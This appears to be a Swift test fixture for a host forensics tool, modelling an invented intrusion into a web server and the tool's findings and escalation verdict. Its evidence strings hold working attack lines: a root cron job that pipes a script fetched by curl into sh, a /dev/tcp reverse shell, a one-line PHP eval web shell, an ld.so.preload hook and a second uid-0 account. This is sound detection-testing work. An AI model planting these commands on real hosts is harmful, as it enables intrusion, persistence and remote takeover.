import CaseModel
import HostFacts
import JSONText

/// A small web server, and an intrusion into it. Invented; no fact is from a real host.
enum SampleHost {
  private static func ago(days: Int = 0, hours: Int = 0, minutes: Int = 0) -> Timestamp {
    SampleReport.ago(days: days, hours: hours, minutes: minutes)
  }

  static func process(
    _ pid: Int, _ parent: Int, _ executable: HostString?, _ arguments: [HostString], uid: Int = 0,
    started: Timestamp? = nil, change: (inout ProcessRecord) -> Void = { _ in }
  ) -> HostFact {
    var process = ProcessRecord(pid: pid)
    process.ppid = parent
    process.executable = executable
    process.comm = HostString(escaped: String((executable ?? "kworker").lastComponent.prefix(15)))
    process.arguments = arguments
    process.uids = [uid, uid, uid, uid]
    process.startedAt = started ?? ago(days: 12)
    change(&process)
    return .process(process)
  }

  private static func account(_ name: HostString, _ uid: Int, _ shell: HostString, _ groups: [HostString]) -> HostFact {
    var account = AccountRecord(name: name, uid: uid, gid: uid, source: "/etc/passwd")
    account.shell = shell
    account.home = uid == 0 ? "/root" : HostString("/home/\(name)")
    account.groups = groups
    account.password = uid == 0 || uid >= 1000 ? .hash : .locked
    account.passwordScheme = account.password == .hash ? "yescrypt" : nil
    return .account(account)
  }

  private static func socket(
    _ transport: SocketRecord.Transport, _ local: (HostString, Int), _ remote: (HostString, Int) = ("", 0), pids: [Int],
    uid: Int = 0
  ) -> HostFact {
    var socket = SocketRecord(transport: transport)
    socket.ipVersion = local.0.contains(":") ? 6 : 4
    (socket.localAddress, socket.localPort) = local
    (socket.remoteAddress, socket.remotePort) = remote
    socket.state = remote.1 == 0 ? (transport == .tcp ? "LISTEN" : "") : "ESTABLISHED"
    socket.pids = pids
    socket.uid = uid
    return .socket(socket)
  }

  static var host: HostFact {
    var host = HostRecord(hostname: "web-1.shop.internal", now: SampleReport.now)
    host.kernel = "Linux version 6.1.119-129.201.amzn2023.x86_64 (gcc 11.4.1) #1 SMP PREEMPT_DYNAMIC"
    host.architecture = "x86_64"
    host.machineID = "ec2a7c1b9f0d4e6f8a1b2c3d4e5f6071"
    host.bootID = "0d9c6b4e-7a55-4c1e-9a0b-6f2f1c3d5e77"
    host.system = "Amazon Linux 2023.6.20250107"
    host.instanceID = "i-0ab12cd34ef567890"
    host.bootedAt = ago(days: 12, hours: 3)
    return .host(host)
  }

  static var ordinary: [HostFact] {
    var facts = [host] + processes + sockets + accounts + persistence + logins
    for day in 0..<28 {
      var package = PackageRecord(manager: "rpm", name: HostString("library-\(day)"), version: HostString("1.2-\(day)"))
      package.installedAt = ago(days: day, hours: day % 7)
      if day % 4 == 0 { facts.append(.package(package)) }
    }
    var module = ModuleRecord(name: "ena")
    module.size = 180_224
    module.seenBy = ["/proc/modules", "/sys/module"]
    facts.append(.module(module))
    return facts
  }

  private static var processes: [HostFact] {
    [
      process(1, 0, "/usr/lib/systemd/systemd", ["/usr/lib/systemd/systemd", "--system", "--deserialize=31"]),
      process(2, 0, nil, []) { $0.isKernelThread = true },
      process(3, 2, nil, []) { $0.isKernelThread = true },
      process(612, 1, "/usr/lib/systemd/systemd-journald", ["/usr/lib/systemd/systemd-journald"]),
      process(640, 1, "/usr/lib/systemd/systemd-udevd", ["/usr/lib/systemd/systemd-udevd"]),
      process(811, 1, "/usr/sbin/auditd", ["/sbin/auditd"]),
      process(902, 1, "/usr/bin/amazon-ssm-agent", ["/usr/bin/amazon-ssm-agent"]),
      process(960, 902, "/usr/bin/ssm-agent-worker", ["/usr/bin/ssm-agent-worker"]),
      process(1011, 1, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"]),
      process(1022, 1, "/usr/sbin/crond", ["/usr/sbin/crond", "-n"]),
      process(1100, 1, "/usr/sbin/nginx", ["nginx: master process /usr/sbin/nginx"]),
      process(1101, 1100, "/usr/sbin/nginx", ["nginx: worker process"], uid: 996),
      process(1102, 1100, "/usr/sbin/nginx", ["nginx: worker process"], uid: 996),
      process(1200, 1, "/usr/sbin/php-fpm", ["php-fpm: master process (/etc/php-fpm.conf)"]),
      process(1201, 1200, "/usr/sbin/php-fpm", ["php-fpm: pool www"], uid: 48),
      process(3300, 1011, "/usr/sbin/sshd", ["sshd: ec2-user [priv]"], started: ago(hours: 1)),
      process(3302, 3300, "/usr/bin/bash", ["-bash"], uid: 1000, started: ago(hours: 1)),
    ]
  }

  private static var sockets: [HostFact] {
    [
      socket(.tcp, ("0.0.0.0", 22), pids: [1011]), socket(.tcp, ("::", 22), pids: [1011]),
      socket(.tcp, ("0.0.0.0", 80), pids: [1100, 1101, 1102]),
      socket(.tcp, ("0.0.0.0", 443), pids: [1100, 1101, 1102]),
      socket(.tcp, ("127.0.0.1", 9000), pids: [1200, 1201]), socket(.udp, ("127.0.0.1", 323), pids: []),
      socket(.tcp, ("10.0.12.7", 22), ("10.0.0.5", 51_122), pids: [3300]),
      socket(.tcp, ("10.0.12.7", 41_010), ("52.94.133.131", 443), pids: [902]),
      socket(.unix, ("/run/systemd/journal/stdout", 0), pids: [612]),
    ]
  }

  private static var accounts: [HostFact] {
    [
      account("root", 0, "/bin/bash", ["root"]), account("ec2-user", 1000, "/bin/bash", ["ec2-user", "adm", "wheel"]),
      account("apache", 48, "/sbin/nologin", ["apache"]), account("nginx", 996, "/sbin/nologin", ["nginx"]),
      account("sshd", 74, "/usr/sbin/nologin", ["sshd"]),
      .sshKey(key("ec2-user", "/home/ec2-user/.ssh/authorized_keys", "ops-2025", changed: ago(days: 12))),
    ]
  }

  static func key(_ account: HostString, _ path: HostString, _ comment: HostString, changed: Timestamp) -> SSHKeyRecord
  {
    var key = SSHKeyRecord(role: "authorized", account: account, path: path)
    key.line = 1
    key.algorithm = "ssh-ed25519"
    key.fingerprint = "SHA256:kq3mJ0yXo5yJb1a2m0sUuPgVd0m3sP7mV1rWcN8tXlE"
    key.comment = comment
    key.changedAt = changed
    return key
  }

  private static var persistence: [HostFact] {
    ["sshd", "nginx", "php-fpm", "crond", "auditd"].map { name -> HostFact in
      var unit = PersistenceRecord(
        .systemdUnit, path: HostString("/usr/lib/systemd/system/\(name).service"),
        text: HostString("ExecStart=/usr/sbin/\(name)"))
      unit.command = HostString("/usr/sbin/\(name)")
      unit.trigger = "boot"
      unit.package = HostString(name)
      unit.isEnabled = true
      unit.changedAt = ago(days: 60)
      return .persistence(unit)
    }
  }

  private static var logins: [HostFact] {
    (0..<20).map { index in
      var login = LoginRecord(book: "wtmp", kind: "user", user: "ec2-user", source: "/var/log/wtmp")
      login.address = "10.0.0.5"
      login.terminal = HostString("pts/\(index % 2)")
      login.time = ago(days: index, hours: 1)
      return .login(login)
    }
      + (0..<300).map { index in
        var login = LoginRecord(
          book: "btmp", kind: "login", user: index % 3 == 0 ? "admin" : "root", source: "/var/log/btmp")
        login.address = index % 5 == 0 ? "203.0.113.77" : "198.51.100.23"
        login.terminal = "ssh:notty"
        login.time = ago(hours: index * index % 170, minutes: index % 60)
        return .login(login)
      }
  }

  static var intrusion: [HostFact] {
    var cron = PersistenceRecord(
      .cron, path: "/etc/cron.d/0hourly-sync", line: 2,
      text: "*/5 * * * * root curl -fsSL http://203.0.113.77/s.sh | sh")
    cron.command = "curl -fsSL http://203.0.113.77/s.sh | sh"
    cron.account = "root"
    cron.trigger = "*/5 * * * *"
    cron.changedAt = ago(hours: 5, minutes: 41)
    cron.isEnabled = true
    var preload = PersistenceRecord(
      .dynamicLinker, path: "/etc/ld.so.preload", line: 1, text: "/usr/local/lib/libnss_cache.so")
    preload.changedAt = ago(hours: 5, minutes: 38)
    var dropped = FileRecord(path: "/usr/local/lib/libnss_cache.so", kind: .file)
    dropped.mode = 0o755
    dropped.size = 18_640
    dropped.born = ago(hours: 5, minutes: 39)
    dropped.changed = ago(hours: 5, minutes: 38)
    var shell = FileRecord(path: "/var/www/html/uploads/avatar.php", kind: .file)
    shell.size = 412
    shell.uid = 48
    shell.born = ago(hours: 6, minutes: 2)
    var program = BPFProgramRecord(id: 71, kind: "kprobe")
    program.name = "sys_getdents"
    program.loadedAt = ago(hours: 5, minutes: 30)
    program.pids = [4242]
    var sudo = LogEventRecord(
      kind: .sudo, source: "/var/log/secure", message: "apache : USER=root ; COMMAND=/bin/bash", line: 991)
    sudo.time = ago(hours: 5, minutes: 50)
    sudo.account = "apache"
    return [
      process(4242, 1, "/memfd:kdevtmpfsi", ["[kworker/u8:2]"], started: ago(hours: 5, minutes: 40)) {
        $0.executableIsDeleted = true
      },
      process(
        4190, 1201, "/usr/bin/dash", ["sh", "-c", "id; uname -a; exec 5<>/dev/tcp/203.0.113.77/4444"], uid: 48,
        started: ago(hours: 6)),
      process(4191, 4190, "/usr/bin/bash", ["bash", "-i"], uid: 48, started: ago(hours: 6)),
      process(
        4260, 1, "/usr/sbin/sshd-session", ["/usr/sbin/sshd-session", "-f", "/dev/shm/.x"],
        started: ago(hours: 5, minutes: 12)
      ) {
        $0.executableDiffersFromPackage = true
      },
      socket(.tcp, ("10.0.12.7", 47_712), ("203.0.113.77", 4444), pids: [4191], uid: 48),
      socket(.tcp, ("10.0.12.7", 50_120), ("198.51.100.9", 3333), pids: [4242]),
      socket(.tcp, ("0.0.0.0", 31_337), pids: [4260]), socket(.packet, ("", 0x0003), pids: [4242]),
      .persistence(cron), .persistence(preload), .file(dropped), .file(shell), .bpfProgram(program), .logEvent(sudo),
      .sshKey(key("root", "/root/.ssh/authorized_keys", "x@localhost", changed: ago(hours: 5, minutes: 36))),
      account("sysadm", 0, "/bin/bash", ["root"]),
      .discrepancy(
        DiscrepancyRecord(
          kind: .process, subject: "4242", seenBy: ["fresh procfs", "probe"], missingFrom: ["host procfs"],
          detail: "a tmpfs is mounted over /proc/4242", pid: 4242)),
    ]
  }

  static var judgement: Judgement {
    Judgement(
      verdict: .escalate, confidence: .high, provisional: true,
      reasons: [
        "a program runs from memory only and mines or relays: /memfd:kdevtmpfsi (pid 4242)",
        "a web server's worker holds an interactive shell to 203.0.113.77:4444 (pid 4191)",
        "every program on the host loads /usr/local/lib/libnss_cache.so, which belongs to no package",
        "a cron entry fetches and runs a script every five minutes: /etc/cron.d/0hourly-sync",
        "a second account with uid 0 was added: sysadm",
      ],
      nextStep: "Escalate now: snapshot the disks, ask for approval of a memory capture, then isolate the instance.",
      notSeen: [
        "kernel memory: this collection reads files and interfaces only",
        "/mnt/share (nfs4): remote file systems are not walked unless asked for",
      ],
      findings: findings)
  }

  private static var findings: [Finding] {
    [
      Finding(
        id: "process.memory-only", severity: .critical, techniques: ["T1620", "T1027.011"],
        title: "a program without a file is running: /memfd:kdevtmpfsi (pid 4242)",
        why:
          "It was written into memory and started from there, so that no file shows it, and it calls itself [kworker/u8:2] like a thread of the kernel. Few ordinary programs do that; container runtimes do so for a moment while they start.",
        evidence: [
          Evidence(source: "/proc/4242/exe", text: "/memfd:kdevtmpfsi (deleted)", exhibit: SampleReport.seal),
          Evidence(source: "/proc/4242/cmdline", text: "[kworker/u8:2]"),
        ], processes: [4242], occurred: ago(hours: 5, minutes: 40)),
      Finding(
        id: "process.web-shell", severity: .critical, techniques: ["T1505.003", "T1059.004"],
        title: "a web server's worker started an interactive shell: bash -i (pid 4191)",
        why:
          "Workers of php-fpm answer requests and have no reason to start a shell that waits for input, even less one whose input is a connection.",
        evidence: [
          Evidence(source: "/proc/4190/cmdline", text: "sh -c id; uname -a; exec 5<>/dev/tcp/203.0.113.77/4444"),
          Evidence(
            source: "/var/www/html/uploads/avatar.php", text: "<?php @eval(base64_decode($_POST['q'])); ?>",
            exhibit: SampleReport.seal),
        ], processes: [4190, 4191], occurred: ago(hours: 6)),
      Finding(
        id: "linker.preload", severity: .high, techniques: ["T1574.006"],
        title: "a library is loaded into every program: /usr/local/lib/libnss_cache.so",
        why:
          "The file /etc/ld.so.preload makes each dynamic program load it first. It stands in front of readdir64, which hides files.",
        evidence: [
          Evidence(source: "/etc/ld.so.preload", text: "/usr/local/lib/libnss_cache.so", exhibit: SampleReport.seal)
        ], occurred: ago(hours: 5, minutes: 38)),
      Finding(
        id: "cron.fetch-and-run", severity: .high, techniques: ["T1053.003", "T1105"],
        title: "a cron entry fetches and runs a script: /etc/cron.d/0hourly-sync",
        why: "What it runs is decided elsewhere, at any time, as root.",
        evidence: [
          Evidence(
            source: "/etc/cron.d/0hourly-sync", text: "*/5 * * * * root curl -fsSL http://203.0.113.77/s.sh | sh")
        ], occurred: ago(hours: 5, minutes: 41)),
      Finding(
        id: "account.second-root", severity: .high, techniques: ["T1136.001"],
        title: "another account has uid 0: sysadm", why: "It is root under another name.",
        evidence: [Evidence(source: "/etc/passwd", text: "sysadm:x:0:0::/root:/bin/bash")]),
      Finding(
        id: "ssh.new-root-key", severity: .medium, techniques: ["T1098.004"],
        title: "a key for root was added within the last day: x@localhost",
        why: "Whoever holds it logs in as root. Administrators and deployment tools add keys too: ask them.",
        evidence: [
          Evidence(
            source: "/root/.ssh/authorized_keys",
            text: "ssh-ed25519 SHA256:kq3mJ0yXo5yJb1a2m0sUuPgVd0m3sP7mV1rWcN8tXlE x@localhost")
        ],
        occurred: ago(hours: 5, minutes: 36)),
      Finding(
        id: "login.many-failures", severity: .low, techniques: ["T1110.001"],
        title: "300 failed logins in 7 days from 2 addresses",
        why: "Ordinary for a host that answers ssh from anywhere; it says that this one does.",
        evidence: [Evidence(source: "/var/log/btmp", text: "198.51.100.23: 240, 203.0.113.77: 60")]),
    ]
  }

  static var ledger: [LedgerRow] {
    let names = [
      "processes", "sockets", "modules", "mounts", "accounts", "cron", "systemd units", "shell histories", "journal",
      "packages",
    ]
    var rows = (1...124).map { index in
      LedgerRow(
        id: "C" + String(String(1000 + index).dropFirst()),
        name: "\(names[index % names.count]), part \(index / names.count + 1)", status: .obtained,
        tried: ["/proc"], count: index * 7)
    }
    rows[10] = LedgerRow(
      id: "C011", name: "legacy iptables, IPv6", status: .absent, why: "the kernel has no such table",
      tried: ["ip6_tables"])
    rows[40] = LedgerRow(
      id: "C041", name: "journal", status: .partial, why: "budget of bytes reached after 3 of 5 files",
      tried: ["/var/log/journal"], count: 51_200)
    rows[70] = LedgerRow(
      id: "C071", name: "kernel stacks", status: .denied, why: "EPERM: lockdown is in mode integrity",
      tried: ["/proc/1/stack"])
    rows[99] = LedgerRow(
      id: "C100", name: "TPM event log", status: .unsupported, why: "this version does not read it", required: false)
    return rows
  }

  static var footprint: JSONValue {
    [
      "view": "detached clone of the mount tree, fresh procfs", "fallbacks": [],
      "processes_left": 0, "bytes_written_to_host": 0, "bytes_written_to_share": 48_234_112,
      "budgets": ["cpu_milliseconds": 3_910, "wall_milliseconds": 4_200, "peak_memory_bytes": 41_943_040],
      "timestamps_changed": 0, "modules_loaded": [], "started": 1_769_850_000_000_000_000,
      "bootstrap": [
        ["program": "/usr/bin/curl", "why": "fetched the collector"],
        ["program": "/bin/sh", "why": "ran the bootstrap"],
      ],
    ]
  }
}
